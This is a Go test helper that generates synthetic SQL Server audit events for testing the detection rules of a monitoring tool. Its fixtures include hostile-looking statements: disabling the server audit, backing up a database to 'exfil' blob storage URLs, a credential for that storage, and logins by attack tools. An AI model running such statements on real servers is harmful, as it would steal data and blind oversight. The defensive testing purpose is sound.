package detecttest

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"time"

	"github.com/xelwatch/xelwatch/xel/xeltest"
)

// Correlated returns n audit events of server srv, from start on, that
// exercise every windowed and correlation rule with the default
// configuration: audit changes (weakening, re-enabling, session starts),
// backups to foreign storage (a quarter of them padded past 4000
// characters, so SQL Server splits them into several records) and to
// allow-listed-looking disks, credentials staged for URL backups, brute
// force, password spray, successful logins from the attacking sources,
// failed logins from public addresses and logins by attack tools, among
// routine batches. Events are about 15 s apart (some in the same
// instant), so an hour of audit takes about 240 events. Deterministic for
// a seed.
func Correlated(n int, seed uint64, srv string, start time.Time) []xeltest.AuditEvent {
	rng := rand.New(rand.NewPCG(seed, 0x5eed))
	principals := []string{`CONTOSO\mallory`, `CONTOSO\bob`, "sa"}
	attackIPs := []string{"10.66.0.1", "10.66.0.2", "203.0.113.9"}
	t := start
	out := make([]xeltest.AuditEvent, 0, n)
	for len(out) < n {
		if rng.IntN(4) != 0 {
			t = t.Add(time.Duration(rng.IntN(30000)) * time.Millisecond)
		}
		p := principals[rng.IntN(len(principals))]
		e := xeltest.AuditEvent{
			EventTime: t, ActionID: "BCM", ClassType: "DB", Succeeded: true,
			SessionID: int16(51 + rng.IntN(100)), ServerPrincipalName: p, SessionServerPrincipalName: p,
			ServerInstanceName: srv, DatabaseName: "SalesDb", ClientIP: "10.0.0.5",
			ApplicationName: "Microsoft SQL Server Management Studio - Query", HostName: "WS-1",
			Statement: fmt.Sprintf("SELECT TOP (%d) * FROM dbo.Orders", 1+rng.IntN(100)),
		}
		switch k := rng.IntN(100); {
		case k < 5:
			e.ActionID, e.ClassType, e.ObjectName = "AL", "A", "Main"
			e.Statement = "ALTER SERVER AUDIT [Main] WITH (STATE = OFF)"
		case k < 7:
			e.ActionID, e.ClassType, e.ObjectName = "AL", "SA", "spec"
			e.Statement = "ALTER SERVER AUDIT SPECIFICATION [spec] DROP (BACKUP_RESTORE_GROUP)"
		case k < 10:
			e.ActionID, e.ClassType, e.ObjectName, e.Statement = "AUSC", "A", "Main", ""
		case k < 11:
			e.ActionID, e.ClassType, e.ObjectName = "AL", "A", "Main"
			e.Statement = "ALTER SERVER AUDIT [Main] WITH (STATE = ON)"
		case k < 19:
			e.ActionID, e.ObjectName = "BA", "SalesDb"
			e.Statement = fmt.Sprintf("BACKUP DATABASE [SalesDb] TO URL = N'https://exfil%d.blob.core.windows.net/dump/SalesDb.bak' WITH COPY_ONLY", rng.IntN(3))
			if rng.IntN(4) == 0 {
				e.Statement += " /* " + strings.Repeat("padding ", 600) + "*/"
			}
		case k < 22:
			e.ActionID, e.ObjectName = "BA", "SalesDb"
			e.Statement = fmt.Sprintf(`BACKUP DATABASE [SalesDb] TO DISK = N'D:\Backups\SalesDb_%d.bak' WITH INIT`, len(out))
		case k < 26:
			e.ActionID, e.ClassType = "CR", "CD"
			e.Statement = fmt.Sprintf("CREATE CREDENTIAL [https://exfil%d.blob.core.windows.net/dump] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = 'sv=2024&sig=x'", rng.IntN(3))
		case k < 56:
			e.ActionID, e.ClassType, e.Succeeded, e.Statement = "LGIF", "LX", false, ""
			e.ClientIP = attackIPs[rng.IntN(len(attackIPs))]
			u := fmt.Sprintf("user%d", rng.IntN(7))
			if rng.IntN(3) == 0 {
				u = "sa"
			}
			e.ServerPrincipalName, e.SessionServerPrincipalName = u, u
		case k < 66:
			e.ActionID, e.ClassType, e.Statement = "LGIS", "LX", ""
			e.ClientIP = attackIPs[rng.IntN(len(attackIPs))]
			u := fmt.Sprintf("user%d", rng.IntN(7))
			e.ServerPrincipalName, e.SessionServerPrincipalName = u, u
		case k < 70:
			e.ActionID, e.Succeeded, e.Statement = "DBAF", false, ""
			e.ClientIP = fmt.Sprintf("198.51.100.%d", rng.IntN(3))
		case k < 74:
			e.ActionID, e.ClassType, e.Statement = "LGIS", "LX", ""
			e.ApplicationName = "sqlmap/1.8"
		}
		out = append(out, e)
	}
	return out
}
